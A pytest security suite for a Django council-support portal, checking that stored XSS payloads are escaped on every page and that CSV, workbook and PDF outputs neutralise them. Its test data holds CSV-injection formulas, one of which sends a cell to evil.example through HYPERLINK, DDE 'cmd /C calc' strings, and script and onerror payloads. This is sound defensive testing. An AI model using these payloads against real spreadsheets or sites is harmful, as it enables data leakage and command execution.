"""Stored XSS: script in every free-text field people write is shown as text everywhere.

Each field holds its own label followed by two payloads (a script element, and an attribute
break-out). Every page that shows them must carry neither payload as markup, and each field
must be seen escaped on at least one page, so the test fails if a page stops showing a field
or starts printing it raw. CSV exports are attachments that neutralise formulas; PDFs show the
payload as text and fetch nothing.
"""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from pypdf import PdfReader

from accounts.models import User
from accounts.roles import Role
from advisers import services as adviser_services
from advisers.models import Adviser, SupportRequestEvent
from courses.models import Booking
from mentoring.models import Match, MentoringRequest
from peer_challenges.models import PeerChallenge
from tests.factories import advisers as adviser_factories
from tests.factories import courses as course_factories
from tests.factories import mentoring as mentoring_factories
from tests.factories import peer_challenges as challenge_factories
from tests.factories import resources as resource_factories
from tests.factories.accounts import UserFactory
from tests.security.conftest import ATTRIBUTE, PAYLOADS, SCRIPT, World, assert_escaped

FIELDS = [
    "engagement-summary",
    "engagement-notes",
    "support-contact",
    "support-details",
    "support-note",
    "availability-notes",
    "adviser-skills",
    "person-name",
    "course-title",
    "course-summary",
    "course-description",
    "session-venue",
    "session-address",
    "session-joining",
    "session-programme",
    "session-facilitators",
    "booking-access",
    "booking-dietary",
    "feedback-comments",
    "mentoring-needs",
    "mentor-bio",
    "match-decline-reason",
    "mentoring-session-notes",
    "mentoring-feedback",
    "challenge-request-notes",
    "challenge-enquiry",
    "challenge-strengths",
    "challenge-areas",
    "challenge-recommendations",
    "challenge-follow-up",
    "challenge-cancel-note",
    "resource-title",
    "resource-summary",
]


def text(label: str) -> str:
    """What a field holds: its label, then both payloads."""
    return f"{label} {SCRIPT} {ATTRIBUTE}"


def shown_escaped(label: str) -> str:
    """How a page shows the start of that text when it escapes it."""
    return escape(f"{label} {SCRIPT}")


@dataclass
class Stored:
    world: World
    writer: User
    engagement: Any
    support_request: Any
    adviser: Adviser
    course: Any
    session: Any
    online_session: Any
    booking: Booking
    past_booking: Booking
    mentoring_request: MentoringRequest
    mentor: Any
    active_match: Match
    completed_match: Match
    declined_match: Match
    on_site: PeerChallenge
    sent: PeerChallenge
    resource: Any


@pytest.fixture
def stored(world: World) -> Stored:
    """Every free-text field, written with its payload, on objects the personas can see."""
    camden = world.camden
    writer = UserFactory(
        email="writer@example.org",
        full_name=text("person-name"),
        role=Role.COUNCILLOR,
        council=camden,
        region=camden.region,
    )
    adviser = world.adviser
    adviser.skills = text("adviser-skills")
    adviser.save(update_fields=["skills"])
    adviser.councils.add(camden)
    engagement = adviser_services.create_engagement(
        data={
            "council": camden,
            "date": datetime.date(2025, 3, 3),
            "days": 1,
            "strand": "intensive",
            "activity": "advice_dcs",
            "funding": "free",
            "commissioned_by_dfe": False,
            "summary": "Before",
            "follow_up_on": None,
            "confidential_notes": "",
        },
        actor=world.cia,
    )
    # Changed through the service, so the change history shows the payloads too.
    adviser_services.update_engagement(
        engagement=engagement,
        data={
            "summary": text("engagement-summary"),
            "confidential_notes": text("engagement-notes"),
        },
        actor=world.cia,
    )
    adviser_factories.AvailabilityFactory(
        adviser=adviser,
        starts_on=timezone.localdate(),
        ends_on=timezone.localdate() + datetime.timedelta(days=30),
        notes=text("availability-notes"),
    )
    support_request = adviser_factories.SupportRequestFactory(
        council=camden,
        requested_by=world.cia,
        contact_name=text("support-contact"),
        details=text("support-details"),
    )
    SupportRequestEvent.objects.create(
        support_request=support_request,
        to_status=support_request.status,
        changed_by=world.pa,
        note=text("support-note"),
    )

    course = course_factories.CourseFactory(
        title=text("course-title"),
        summary=text("course-summary"),
        description=text("course-description"),
    )
    session = course_factories.SessionFactory(
        course=course,
        venue=text("session-venue"),
        address=text("session-address"),
        programme=text("session-programme"),
        facilitators=text("session-facilitators"),
    )
    online_session = course_factories.SessionFactory(
        course=course, is_online=True, venue="", joining_instructions=text("session-joining")
    )
    booking = course_factories.BookingFactory(
        session=session,
        person=world.councillor,
        access_requirements=text("booking-access"),
        dietary_requirements=text("booking-dietary"),
    )
    course_factories.BookingFactory(session=online_session, person=world.councillor)
    course_factories.BookingFactory(session=session, person=writer)
    past_booking = course_factories.FeedbackFactory(
        booking__person=world.councillor,
        booking__session__course=course,
        comments=text("feedback-comments"),
    ).booking

    mentor = mentoring_factories.MentorFactory(bio=text("mentor-bio"))
    mentoring_request = mentoring_factories.MentoringRequestFactory(
        mentee=writer, council=camden, needs=text("mentoring-needs")
    )
    declined_match = mentoring_factories.MatchFactory(
        request=mentoring_request,
        mentor=mentor,
        status=Match.Status.DECLINED,
        decline_reason=text("match-decline-reason"),
    )
    active_match = mentoring_factories.MatchFactory(
        request__mentee=world.councillor,
        request__council=camden,
        request__needs=text("mentoring-needs"),
        mentor=mentor,
        status=Match.Status.ACTIVE,
    )
    mentoring_factories.MentoringSessionFactory(
        match=active_match, private_notes=text("mentoring-session-notes")
    )
    completed_match = mentoring_factories.MatchFactory(status=Match.Status.COMPLETED)
    mentoring_factories.MentoringFeedbackFactory(
        match=completed_match, comments=text("mentoring-feedback")
    )

    on_site = challenge_factories.ScopedChallengeFactory(
        council=camden,
        requested_by=world.pm,
        status=PeerChallenge.Status.ON_SITE,
        request_notes=text("challenge-request-notes"),
        key_lines_of_enquiry=text("challenge-enquiry"),
        strengths=text("challenge-strengths"),
        areas_for_consideration=text("challenge-areas"),
        recommendations=text("challenge-recommendations"),
    )
    sent = challenge_factories.ScopedChallengeFactory(
        council=camden,
        requested_by=world.pm,
        status=PeerChallenge.Status.FEEDBACK_SENT,
        letter_sent_at=timezone.now(),
        strengths=text("challenge-strengths"),
        areas_for_consideration=text("challenge-areas"),
        recommendations=text("challenge-recommendations"),
        follow_up_on=datetime.date(2025, 9, 1),
        follow_up_notes=text("challenge-follow-up"),
    )
    challenge_factories.StatusChangeFactory(
        challenge=on_site,
        from_status=PeerChallenge.Status.REQUESTED,
        to_status=PeerChallenge.Status.SCOPING,
        note=text("challenge-cancel-note"),
    )
    challenge_factories.TeamMemberFactory(
        challenge=on_site, adviser=world.associate_adviser, role="lead_peer"
    )

    topic = resource_factories.TopicFactory(name=f"topic {SCRIPT}", slug="topic-xss")
    resource = resource_factories.ResourceFactory(
        title=text("resource-title"),
        slug="xss-resource",
        summary=text("resource-summary"),
        audiences=["councillors", "advisers"],
    )
    resource.topics.add(topic)
    return Stored(
        world=world,
        writer=writer,
        engagement=engagement,
        support_request=support_request,
        adviser=adviser,
        course=course,
        session=session,
        online_session=online_session,
        booking=booking,
        past_booking=past_booking,
        mentoring_request=mentoring_request,
        mentor=mentor,
        active_match=active_match,
        completed_match=completed_match,
        declined_match=declined_match,
        on_site=on_site,
        sent=sent,
        resource=resource,
    )


def pages(s: Stored) -> list[tuple[str, str]]:
    """(persona, url) for every page that shows some of the stored text."""
    w = s.world
    camden = w.camden.gss_code
    return [
        *((persona, "/") for persona in w.people),
        *((persona, reverse("councils:detail", args=[camden])) for persona in w.people),
        # Advisers
        ("programme_manager", reverse("advisers:engagement-list")),
        ("programme_manager", reverse("advisers:engagement-detail", args=[s.engagement.pk])),
        ("improvement_adviser", reverse("advisers:engagement-detail", args=[s.engagement.pk])),
        ("improvement_adviser", reverse("advisers:engagement-edit", args=[s.engagement.pk])),
        ("programme_manager", reverse("advisers:support-request-list")),
        (
            "principal_adviser",
            reverse("advisers:support-request-detail", args=[s.support_request.pk]),
        ),
        ("improvement_adviser", reverse("advisers:availability")),
        ("programme_manager", reverse("advisers:adviser-list")),
        ("programme_manager", reverse("advisers:adviser-detail", args=[s.adviser.pk])),
        ("programme_manager", reverse("advisers:adviser-edit", args=[s.adviser.pk])),
        ("improvement_adviser", reverse("advisers:profile")),
        (
            "principal_adviser",
            reverse("advisers:availability-search")
            + f"?starts_on={timezone.localdate()}&ends_on={timezone.localdate()}",
        ),
        # Courses
        *((persona, reverse("courses:list")) for persona in w.people),
        ("councillor", reverse("courses:session-detail", args=[s.session.pk])),
        ("councillor", reverse("courses:course-list")),
        ("programme_manager", reverse("courses:course-detail", args=[s.course.pk])),
        ("programme_manager", reverse("courses:course-edit", args=[s.course.pk])),
        ("programme_manager", reverse("courses:session-edit", args=[s.session.pk])),
        ("programme_manager", reverse("courses:session-cancel", args=[s.session.pk])),
        ("programme_manager", reverse("courses:bookings")),
        ("programme_manager", reverse("courses:register", args=[s.session.pk])),
        (
            "programme_manager",
            reverse("courses:session-feedback", args=[s.past_booking.session_id]),
        ),
        ("councillor", reverse("courses:bookings")),
        ("councillor", reverse("courses:booking-detail", args=[s.booking.pk])),
        ("councillor", reverse("courses:booking-confirmation", args=[s.booking.pk])),
        ("councillor", reverse("courses:booking-cancel", args=[s.booking.pk])),
        ("programme_manager", reverse("courses:booking-detail", args=[s.booking.pk])),
        (
            "councillor",
            reverse(
                "courses:booking-detail",
                args=[Booking.objects.get(session=s.online_session, person=w.councillor).pk],
            ),
        ),
        # Mentoring
        ("programme_manager", reverse("mentoring:board")),
        ("programme_manager", reverse("mentoring:request-detail", args=[s.mentoring_request.pk])),
        ("programme_manager", reverse("mentoring:match-list")),
        ("programme_manager", reverse("mentoring:mentor-list")),
        ("programme_manager", reverse("mentoring:mentor-edit", args=[s.mentor.pk])),
        ("programme_manager", reverse("mentoring:match-detail", args=[s.active_match.pk])),
        ("programme_manager", reverse("mentoring:match-detail", args=[s.completed_match.pk])),
        ("programme_manager", reverse("mentoring:match-detail", args=[s.declined_match.pk])),
        ("councillor", reverse("mentoring:mine")),
        ("councillor", reverse("mentoring:match-detail", args=[s.active_match.pk])),
        # Peer challenges
        *((persona, reverse("peer_challenges:list")) for persona in w.people),
        ("programme_manager", reverse("peer_challenges:detail", args=[s.on_site.pk])),
        ("programme_manager", reverse("peer_challenges:letter", args=[s.on_site.pk])),
        ("programme_manager", reverse("peer_challenges:cancel", args=[s.on_site.pk])),
        ("associate", reverse("peer_challenges:detail", args=[s.on_site.pk])),
        ("programme_manager", reverse("peer_challenges:detail", args=[s.sent.pk])),
        ("programme_manager", reverse("peer_challenges:follow-up", args=[s.sent.pk])),
        ("councillor", reverse("peer_challenges:detail", args=[s.sent.pk])),
        # Resources
        *((persona, reverse("resources:list")) for persona in w.people),
        ("councillor", reverse("resources:list") + "?q=resource-title"),
        ("councillor", reverse("resources:detail", args=[s.resource.slug])),
        ("programme_manager", reverse("resources:edit", args=[s.resource.slug])),
    ]


def test_every_page_shows_stored_text_escaped(stored: Stored) -> None:
    seen = ""
    clients: dict[str, Client] = {}
    for persona, url in pages(stored):
        client = clients.setdefault(persona, Client())
        client.force_login(stored.world.people[persona])
        response = client.get(url)
        assert response.status_code == 200, f"{persona} {url}: {response.status_code}"
        body = response.content.decode()
        assert_escaped(body, f"{url} for {persona}")
        seen += body
    missing = [label for label in FIELDS if shown_escaped(label) not in seen]
    assert not missing, f"No page showed these fields (escaped): {missing}"


def test_answers_kept_in_a_booking_and_a_mentoring_request_are_escaped_on_check_pages(
    world: World,
) -> None:
    session = course_factories.SessionFactory()
    client = Client()
    client.force_login(world.councillor)
    client.get(reverse("courses:book", args=[session.pk]))
    client.post(
        reverse("courses:book-access", args=[session.pk]),
        {"access_requirements": text("booking-access")},
    )
    client.post(
        reverse("courses:book-dietary", args=[session.pk]),
        {"dietary_requirements": text("booking-dietary")},
    )
    check = client.get(reverse("courses:book-check", args=[session.pk])).content.decode()

    assert_escaped(check, "booking check page")
    assert shown_escaped("booking-access") in check
    assert shown_escaped("booking-dietary") in check

    client.post(reverse("mentoring:request-step", args=["kind"]), {"kind": "defined_period"})
    client.post(
        reverse("mentoring:request-step", args=["political-group"]), {"political_group": "labour"}
    )
    client.post(
        reverse("mentoring:request-step", args=["group-preference"]), {"group_preference": "any"}
    )
    client.post(
        reverse("mentoring:request-step", args=["performance"]), {"performance_concern": "no"}
    )
    client.post(
        reverse("mentoring:request-step", args=["needs"]), {"needs": text("mentoring-needs")}
    )
    mentoring_check = client.get(reverse("mentoring:request-check")).content.decode()

    assert_escaped(mentoring_check, "mentoring check page")
    assert shown_escaped("mentoring-needs") in mentoring_check


def test_a_peer_challenge_request_is_escaped_on_its_check_page(world: World) -> None:
    client = Client()
    client.force_login(world.pm)
    client.post(reverse("peer_challenges:request"), {"council": world.camden.pk})
    client.post(
        reverse("peer_challenges:request-details"),
        {"request_notes": text("challenge-request-notes")},
    )
    check = client.get(reverse("peer_challenges:request-check")).content.decode()

    assert_escaped(check, "peer challenge check page")
    assert shown_escaped("challenge-request-notes") in check


def test_form_errors_echo_what_was_typed_escaped(world: World) -> None:
    """A rejected form shows the typed text again, in the input's value attribute."""
    client = Client()
    client.force_login(world.pm)
    response = client.post(
        reverse("courses:course-create"), {"title": text("course-title"), "kind": ""}
    )
    body = response.content.decode()

    assert response.status_code == 200
    assert_escaped(body, "course form with errors")
    assert escape(text("course-title")) in body


def test_emails_about_a_booking_escape_the_course_in_their_html(
    world: World, django_capture_on_commit_callbacks: Any
) -> None:
    from courses import services as course_services

    course = course_factories.CourseFactory(title=text("course-title"))
    session = course_factories.SessionFactory(course=course, venue=text("session-venue"))
    with django_capture_on_commit_callbacks(execute=True):
        course_services.book_place(session=session, person=world.councillor, actor=world.councillor)

    [message] = mail.outbox
    [(html, kind)] = message.alternatives
    assert kind == "text/html"
    assert_escaped(html, "booking email")
    assert shown_escaped("course-title") in html


# CSV exports -------------------------------------------------------------------------------

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "+": "+SUM(1+1)*cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _rows(response: Any) -> list[list[str]]:
    content = getattr(response, "streaming_content", None)
    body = b"".join(content).decode() if content is not None else response.content.decode()
    return list(csv.reader(io.StringIO(body)))


def _assert_attachment(response: Any) -> None:
    """A CSV is downloaded, never rendered as a page, whatever its cells hold."""
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def _assert_no_formula(rows: list[list[str]], expected: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for formula in expected:
        assert "'" + formula in cells, f"{formula!r} not kept as text"


def test_the_engagement_export_neutralises_formulas_and_is_an_attachment(world: World) -> None:
    adviser_factories.EngagementFactory(
        council=world.camden,
        adviser=world.adviser,
        summary=FORMULAS["="],
        confidential_notes=FORMULAS["+"],
    )
    adviser_factories.EngagementFactory(
        council=world.camden, adviser=world.adviser, summary=FORMULAS["-"] + " " + SCRIPT
    )
    adviser_factories.EngagementFactory(
        council=world.camden, adviser=world.adviser, summary=FORMULAS["@"]
    )
    client = Client()
    client.force_login(world.pm)

    response = client.get(reverse("advisers:engagement-export"))

    _assert_attachment(response)
    rows = _rows(response)
    _assert_no_formula(rows, [FORMULAS["="], FORMULAS["+"], FORMULAS["@"]])
    assert "'" + FORMULAS["-"] + " " + SCRIPT in [cell for row in rows for cell in row]


def test_the_register_export_neutralises_formulas_and_is_an_attachment(world: World) -> None:
    session = course_factories.SessionFactory()
    person = UserFactory(email="formula@example.org", full_name=FORMULAS["-"], role=Role.COUNCILLOR)
    course_factories.BookingFactory(
        session=session,
        person=person,
        access_requirements=FORMULAS["="],
        dietary_requirements=FORMULAS["@"],
    )
    course_factories.BookingFactory(
        session=session, person=world.councillor, access_requirements=FORMULAS["+"]
    )
    client = Client()
    client.force_login(world.pm)

    response = client.get(reverse("courses:register-export", args=[session.pk]))

    _assert_attachment(response)
    _assert_no_formula(_rows(response), list(FORMULAS.values()))


@pytest.fixture
def session_in_a_report(world: World) -> Any:
    """A past session whose course title and venue are formulas and script."""
    course = course_factories.CourseFactory(title=FORMULAS["="] + " " + SCRIPT)
    return course_factories.PastSessionFactory(course=course, venue=FORMULAS["@"])


def _report_for(world: World) -> Any:
    from tests.factories.reports import done_report

    today = timezone.localdate()
    return done_report(
        requested_by=world.pm,
        start=today - datetime.timedelta(days=365),
        end=today,
        as_of=today,
    )


def test_the_report_csv_and_workbook_neutralise_formulas(
    world: World, session_in_a_report: Any
) -> None:
    from openpyxl import load_workbook

    report = _report_for(world)
    client = Client()
    client.force_login(world.pm)

    response = client.get(
        reverse("reports:csv", args=[report.pk, "leadership-essentials-sessions"])
    )

    _assert_attachment(response)
    _assert_no_formula(_rows(response), [FORMULAS["="] + " " + SCRIPT, FORMULAS["@"]])
    workbook = load_workbook(io.BytesIO(report.xlsx.open("rb").read()))
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not formulas
    texts = [
        cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
    ]
    assert FORMULAS["="] + " " + SCRIPT in texts


# PDFs ------------------------------------------------------------------------------------


def _pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


@pytest.fixture
def fetched(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every URL a PDF rendering asks for."""
    from improvement_portal import pdf

    urls: list[str] = []
    original = pdf.StaticOnlyURLFetcher.fetch

    def fetch(self: Any, url: str, headers: Any = None) -> Any:
        urls.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(pdf.StaticOnlyURLFetcher, "fetch", fetch)
    return urls


def _assert_fetched_only_static(urls: list[str]) -> None:
    from improvement_portal import pdf

    assert urls, "the rendering should at least read its stylesheet"
    assert [url for url in urls if not url.startswith(pdf.STATIC_PREFIX)] == []


def test_the_peer_challenge_letter_shows_script_as_text_and_fetches_nothing(
    world: World, fetched: list[str]
) -> None:
    from peer_challenges import services as challenge_services

    challenge = challenge_factories.ScopedChallengeFactory(
        council=world.camden, requested_by=world.pm, status=PeerChallenge.Status.ON_SITE
    )
    challenge = challenge_services.write_feedback_letter(
        challenge=challenge,
        strengths=f"Strengths {SCRIPT}",
        areas_for_consideration=f"Areas {ATTRIBUTE}",
        recommendations="Recommendations <img src=/etc/passwd>",
        actor=world.pm,
    )

    assert challenge_services.render_feedback_letter(
        challenge_id=challenge.pk, revision=challenge.letter_revision
    )

    challenge.refresh_from_db()
    words = _pdf_text(challenge.letter_pdf.open("rb").read())
    assert SCRIPT in words
    assert "onerror=alert(1)" in words
    assert "<img src=/etc/passwd>" in words
    _assert_fetched_only_static(fetched)


def test_the_evaluation_report_shows_script_as_text_and_fetches_nothing(
    world: World, session_in_a_report: Any, fetched: list[str]
) -> None:
    from reports import services as report_services
    from reports.models import EvaluationReport

    today = timezone.localdate()
    report = EvaluationReport.objects.create(
        start=today - datetime.timedelta(days=365),
        end=today,
        as_of=today,
        requested_by=world.pm,
    )

    report_services.generate_report(report_id=report.pk)

    report.refresh_from_db()
    assert report.status == EvaluationReport.Status.DONE, report.error
    words = " ".join(_pdf_text(report.pdf.open("rb").read()).split())
    assert "<script>alert(1)</script>" in words
    _assert_fetched_only_static(fetched)


def test_payloads_are_what_the_tests_think(stored: Stored) -> None:
    """The fixtures really stored the raw payloads (nothing was cleaned on the way in)."""
    stored.engagement.refresh_from_db()
    assert all(payload in stored.engagement.summary for payload in PAYLOADS)
